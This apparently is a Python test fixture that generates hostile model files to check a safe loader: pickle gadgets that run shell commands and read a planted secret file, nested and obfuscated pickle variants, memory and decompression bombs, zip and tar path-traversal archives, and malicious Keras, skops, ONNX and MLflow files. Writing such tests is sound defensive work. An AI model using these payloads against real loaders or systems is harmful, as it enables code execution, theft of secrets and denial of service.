"""Files that attack by what they say, without a class of their own: gadgets, bombs and archives."""

import base64
import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from types import SimpleNamespace

import numpy as np
from joblib.numpy_pickle import NumpyArrayWrapper

MIB = 1024 * 1024
BOMB_BYTES = 3 * 1024 * MIB  # what unpacks to it would be a breach; what holds it in the test is small

Contents = dict[str, bytes | Callable[[], bytes]]  # what takes a while is made when it is asked for


def gadgets(planted: SimpleNamespace) -> Contents:
    """Pickles that call what is installed anyway, also out of packages that one trusts."""
    code = _code(planted)
    shell = f"echo PWNED:a shell; cat {planted.secret_file}; touch {planted.folder}/{planted.name}"
    url = f"http://127.0.0.1:{planted.tcp_port}/{planted.name}"
    aim = f"{planted.folder}/{planted.name}"
    calls: dict[str, tuple[str, str, tuple]] = {
        "os_system": ("os", "system", (shell,)),
        "posix_system": ("posix", "system", (shell,)),
        "subprocess": ("subprocess", "getoutput", (shell,)),
        "pty": ("pty", "spawn", (["/bin/sh", "-c", shell],)),
        "builtins_exec": ("builtins", "exec", (code,)),
        "builtins_eval": ("builtins", "eval", (f"exec({code!r})",)),
        "python_2_names": ("__builtin__", "eval", (f"exec({code!r})",)),
        "timeit": ("timeit", "timeit", ("pass", code)),
        "cprofile": ("cProfile", "run", (code,)),
        "profile": ("profile", "run", (code,)),
        "pdb": ("pdb", "run", (code,)),
        "trace": ("trace", "Trace.run", (code,)),
        "code_interpreter": ("code", "InteractiveInterpreter.runcode", (code,)),
        "runpy": ("runpy", "run_path", (planted.own_file,)),
        "numpy_f2py": ("numpy.f2py.crackfortran", "myeval", (f"exec({code!r})", {}, {})),
        "numpy_f2py_dotted": ("numpy", "f2py.os.system", (shell,)),
        "sklearn_dotted": ("sklearn", "utils.os.system", (shell,)),
        "joblib_dotted": ("joblib", "memory.os.system", (shell,)),
        "joblib_load": ("joblib", "load", (planted.other_model,)),
        "numpy_load": ("numpy", "load", (planted.other_model, None, True)),
        "numpy_fromfile": ("numpy", "fromfile", (planted.secret_file, "u1")),
        "numpy_savetxt": ("numpy", "savetxt", (aim, [1.0])),
        "numpy_memmap": ("numpy", "memmap", (aim, "u1", "w+", 0, (4,))),
        "pandas_pickle": ("pandas", "read_pickle", (planted.other_model,)),
        "pandas_url": ("pandas", "read_csv", (url,)),
        "urlretrieve": ("urllib.request", "urlretrieve", (url, aim)),
        "urlopen": ("urllib.request", "urlopen", (url,)),
        "webbrowser": ("webbrowser", "open", (url,)),
        "socket": ("socket", "create_connection", (("127.0.0.1", planted.tcp_port), 2)),
        "smtplib": ("smtplib", "SMTP", ("127.0.0.1", planted.tcp_port, None, 2)),
        "ctypes_load": ("ctypes", "CDLL", (planted.own_file,)),
        "importlib": ("importlib", "import_module", ("antigravity",)),
        "shutil_rmtree": ("shutil", "rmtree", (planted.code,)),
        "os_remove": ("os", "remove", (planted.other_model,)),
        "os_kill": ("os", "kill", (planted.victim, 9)),
        "open_to_write": ("io", "open", (aim, "w")),
        "linecache": ("linecache", "getlines", (planted.secret_file,)),
        "logging_file": ("logging", "FileHandler", (aim,)),
        "shelve": ("shelve", "open", (aim,)),
        "sqlite": ("sqlite3", "connect", (aim,)),
        "multiprocessing": ("multiprocessing.connection", "Client", (planted.unix_path,)),
    }
    return {name: _calling(*call) for name, call in calls.items()}


def places(planted: SimpleNamespace) -> Contents:
    """The same gadget, hidden deeper."""
    evil = _Call("builtins", "exec", (_code(planted),))
    hidden = _dumped({"model": [evil]})
    plain = pickle.dumps({"nothing": 1})
    line = _code(planted).encode().replace(b"\n", rb"\u000a")
    return {
        "in_a_list_in_a_dict": hidden,
        "in_a_pickle_in_a_pickle": _calling("pickle", "loads", (hidden,)),
        "a_second_stream": plain + hidden,
        "called_then_dropped": b"\x80\x02" + _dumped(evil, 2)[2:-1] + b"0" + plain[2:],
        "protocol_0": _dumped(evil, 0),
        "compressed": zlib.compress(hidden),
        "by_a_stack_global_of_memo": _dumped([evil, evil]),
        "by_an_object_opcode": b"\x80\x02(cbuiltins\nexec\nV" + line + b"\no.",
        "by_an_instance_opcode": b"\x80\x02(V" + line + b"\nibuiltins\nexec\n.",
    }


def bombs(planted: SimpleNamespace) -> Contents:
    """Small files that are large when opened, or deep, or never end."""
    head = b"\x80\x04"
    return {
        "nested_deep": head + b"]" * 2_000_000 + b"a" * 1_999_999 + b".",
        "nested_tuples": head + b")" + b"\x85" * 2_000_000 + b".",
        "laughs": _laughs(),
        "memo_of_billions": head + b"Nr" + struct.pack("<I", 2**27) + b".",
        "bytes_of_terabytes": head + b"\x8e" + struct.pack("<Q", 2**42),
        "frame_of_terabytes": head + b"\x95" + struct.pack("<Q", 2**42) + b"N.",
        "text_of_gigabytes": head + b"X" + struct.pack("<I", 2**32 - 1),
        "number_of_many_digits": head + b"I" + b"9" * (4 * MIB) + b"\n.",
        "numpy_of_terabytes": _calling("numpy", "zeros", (2**40,)),
        "numpy_of_gigabytes": _calling("numpy", "ones", (BOMB_BYTES // 8,)),
        "range_as_list": _calling("builtins", "list", (range(10**10),)),
        "power": _calling("builtins", "pow", (10, 10**9)),
        "bytes_of_gigabytes": _calling("builtins", "bytearray", (BOMB_BYTES,)),
        "zlib": lambda: _zlib_bomb(head + b"\x8e" + struct.pack("<Q", BOMB_BYTES)),
        "joblib_array": _joblib_array(),
        "truncated": pickle.dumps(list(range(10_000)))[:-100],
        "empty": b"",
        "unknown_opcode": head + b"\xff.",
        "stack_underflow": head + b"\x85\x85R.",
        "recursive_reduce": head + b"]q\x00h\x00a.",
        "persistent_id": head + b"Vx\nQ.",
        "extension": head + b"\x82\x01.",
    }


def archives(planted: SimpleNamespace) -> Contents:
    """Archives whose names point elsewhere, or that are larger inside than outside."""
    evil = _calling("builtins", "exec", (_code(planted),))
    climbing = f"../../../../../../..{planted.folder}/{planted.name}"
    return {
        "zip_slip": _zip({climbing: b"pwned", "schema.json": b"{}"}),
        "zip_absolute": _zip({f"{planted.folder}/{planted.name}": b"pwned", "data.pkl": evil}),
        "zip_of_a_pickle": _zip({"archive/data.pkl": evil, "archive/version": b"3\n"}),
        "zip_bomb": lambda: _zip({"archive/data.pkl": bytes(256 * MIB)}),
        "zip_with_a_link": _zip_link(planted.secret_file),
        "zip_of_many_names": lambda: _zip({f"{at}.json": b"" for at in range(50_000)}),
        "skops_of_a_shell": _zip({"schema.json": _skops("os", "system")}),
        "skops_of_nothing_known": _zip({"schema.json": _skops("nowhere", "Evil")}),
        "skops_deep": _zip({"schema.json": b'{"content":' * 100_000 + b"1" + b"}" * 100_000}),
        "keras_lambda": _zip({"config.json": _keras(planted), "metadata.json": b"{}"}),
        "mlflow_of_a_pickle": _zip(
            {"MLmodel": _MLMODEL, "model.pkl": evil, "requirements.txt": _REQUIREMENTS}
        ),
        "safetensors_header": struct.pack("<Q", 2**62) + b"{",
        "safetensors_long": struct.pack("<Q", 64 * MIB) + b"{" + b" " * MIB,
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(4096),
        "tar_slip": _tar(climbing),
    }


def texts(planted: SimpleNamespace) -> Contents:
    """Models that are text, with sizes that cannot be."""
    lightgbm = b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=%d\n"
    booster = (
        b'{"learner":{"gradient_booster":{"model":{"gbtree_model_param":{"num_trees":"%d"},"trees":[%s]}}}}'
    )
    return {
        "lightgbm_of_many_features": lightgbm % (2**31 - 1) + b"objective=regression\nfeature_names=x\n",
        "lightgbm_of_many_leaves": lightgbm % 1
        + b"tree_sizes=99\n\nTree=0\nnum_leaves=2147483647\nnum_cat=0\n",
        "xgboost_of_many_trees": booster % (2**40, b""),
        "xgboost_of_many_nodes": booster % (1, b'{"tree_param":{"num_nodes":"4294967295"}}'),
        "json_deep": b"[" * 5_000_000,
        "lines": b"tree\n" * 2_000_000,
        "ubjson": b"{L\x7f\xff\xff\xff\xff\xff\xff\xff",
    }


def onnx_graphs(planted: SimpleNamespace) -> Contents:
    """Graphs that read a file, ask for 160 GB, or loop for ever."""
    from onnx import TensorProto, helper, numpy_helper  # noqa: PLC0415  takes a second, which few tests need

    X = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, None)

    def graph(*nodes, initial=()) -> bytes:
        made = helper.make_graph([*nodes], "evil", [X], [y], [*initial])
        return helper.make_model(made, opset_imports=[helper.make_opsetid("", 18)]).SerializeToString()

    outside = numpy_helper.from_array(np.zeros((2, 2), np.float32), "W")
    outside.ClearField("raw_data")
    outside.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../secret.key"), ("length", "16")):
        entry = outside.external_data.add()
        entry.key, entry.value = key, value
    shape = numpy_helper.from_array(np.array([200_000, 200_000], np.int64), "shape")
    return {
        "data_outside": graph(helper.make_node("MatMul", ["X", "W"], ["y"]), initial=[outside]),
        "of_160_gigabytes": graph(helper.make_node("ConstantOfShape", ["shape"], ["y"]), initial=[shape]),
        "endless_loop": graph(*_loop(helper, TensorProto), initial=_loop_start(numpy_helper)),
        "cut_short": graph(helper.make_node("Relu", ["X"], ["y"]))[:-10],
        "of_an_unknown_domain": graph(helper.make_node("Evil", ["X"], ["y"], domain="evil")),
    }


def _loop(helper, types) -> list:
    """A body that keeps saying: once more."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Identity", ["v"], ["w"])],
        "body",
        [
            helper.make_tensor_value_info("i", types.INT64, []),
            helper.make_tensor_value_info("go", types.BOOL, []),
            helper.make_tensor_value_info("v", types.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info("on", types.BOOL, []),
            helper.make_tensor_value_info("w", types.FLOAT, None),
        ],
    )
    return [helper.make_node("Loop", ["most", "true", "X"], ["y"], body=body)]


def _loop_start(numpy_helper) -> list:
    most = numpy_helper.from_array(np.array(2**62, np.int64), "most")
    return [most, numpy_helper.from_array(np.array(True), "true")]


class _Call:
    """Pickles as a call of what has this name, whatever that is."""

    def __init__(self, module: str, name: str, arguments: tuple) -> None:
        self.module, self.name, self.arguments = module, name, arguments

    def __reduce__(self):
        return _Name(self.module, self.name), self.arguments


class _Name:
    """Stands for a global, so that no test need have it."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def __call__(self) -> None:
        """Pickle asks whether it could be called."""


class _Pickler(pickle._Pickler):  # the one in Python: the one in C writes only names that it finds
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, _Name):
            self.write(_global(obj, self.proto))
        else:
            super().save(obj, save_persistent_id)


def _global(name: _Name, protocol: int) -> bytes:
    if protocol < 4:
        return f"c{name.module}\n{name.name}\n".encode()
    texts = (text.encode() for text in (name.module, name.name))
    return b"".join(b"X" + struct.pack("<I", len(text)) + text for text in texts) + b"\x93"


def _dumped(value: object, protocol: int = 4) -> bytes:
    file = io.BytesIO()
    _Pickler(file, protocol).dump(value)
    return file.getvalue()


def _calling(module: str, name: str, arguments: tuple) -> bytes:
    old = module == "__builtin__"
    return _dumped(_Call(module, name, arguments), 2 if old else 4)


def _code(planted: SimpleNamespace) -> str:
    """Says that it runs, then what it gets."""
    return f"""
print('REACHED', flush=True)
try: print('PW' + 'NED:' + open({planted.secret_file!r}).read(), flush=True)
except OSError as error: print(error, flush=True)
try: open({planted.folder + "/" + planted.name!r}, 'w')
except OSError as error: print(error, flush=True)
"""


def _laughs() -> bytes:
    """A list of ten lists of ten lists, of which there is one each: 10**15 items to whoever counts them."""
    value: list = [0] * 10
    for _ in range(14):
        value = [value] * 10
    return pickle.dumps(value)


def _zlib_bomb(head: bytes) -> bytes:
    """Compressed zeros, once made and repeated: a flushed block can follow itself."""
    squeezer = zlib.compressobj(9)
    start = squeezer.compress(head) + squeezer.flush(zlib.Z_FULL_FLUSH)
    squeezer.compress(bytes(MIB))
    squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(bytes(MIB)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return start + block * (BOMB_BYTES // MIB)


def _joblib_array() -> bytes:
    """An array of eight terabytes, of which nothing follows."""
    return pickle.dumps(NumpyArrayWrapper(np.ndarray, (2**40,), "C", np.dtype("f8")))


def _zip(files: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def _zip_link(aim: str) -> bytes:
    """An entry that is a symbolic link, as tools on Unix store it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        entry = zipfile.ZipInfo("schema.json")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, aim)
    return file.getvalue()


def _tar(name: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = 5
        archive.addfile(entry, io.BytesIO(b"pwned"))
    return file.getvalue()


def _skops(module: str, name: str) -> bytes:
    node = {
        "__class__": name,
        "__module__": module,
        "__loader__": "FunctionNode",
        "__id__": 1,
        "content": name,
    }
    return json.dumps(node | {"protocol": 2, "_skops_version": "0.16"}).encode()


def _keras(planted: SimpleNamespace) -> bytes:
    """A layer whose function is marshalled code."""
    code = base64.b64encode(marshal.dumps(compile(_code(planted), "x", "exec"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layer = {"class_name": "Lambda", "config": {"name": "evil", "function": function}}
    return json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}).encode()


_MLMODEL = b"""flavors:
  python_function:
    loader_module: os
    python_version: 3.11.0
  sklearn:
    pickled_model: ../../../../etc/passwd
"""
_REQUIREMENTS = b"""--index-url http://127.0.0.1:1/simple
-e git+file:///etc#egg=evil
evil @ file:///etc
"""
